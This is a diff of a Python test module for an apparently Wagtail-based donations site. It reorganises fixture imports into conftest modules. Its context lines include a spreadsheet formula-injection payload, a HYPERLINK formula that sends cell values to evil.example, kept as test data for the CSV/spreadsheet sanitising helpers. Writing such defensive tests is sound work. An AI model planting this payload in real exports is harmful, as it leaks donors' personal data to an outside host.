@@ -30,7 +30,6 @@ from wagtail.admin.viewsets.base import ViewSet
 
 from donations.models import Channel, Disclosure, Donor, Pledge, Receipt
 from donations.services import record_pledge, record_receipt
-from donations.testing import make_bank_account, make_donor, make_user
 from giving.models import OnlineGift
 from reconciliation.models import StatementLine
 from reconciliation.services import import_statement
@@ -41,10 +40,10 @@ from sitewide.spreadsheets import (
     safe_row,
     starts_like_formula,
 )
-from tests.factories import make_story
-from tests.giving_fixtures import ipn_params, ipn_url
-
-pytest_plugins = ["donations.testing", "tests.giving_fixtures"]
+from tests.donations.conftest import make_bank_account, make_donor
+from tests.giving.conftest import ipn_params, ipn_url
+from tests.sitewide.conftest import make_user
+from tests.stories.conftest import make_story
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&D2&E2,"Xem chi tiết")'
 HOSTILE = [
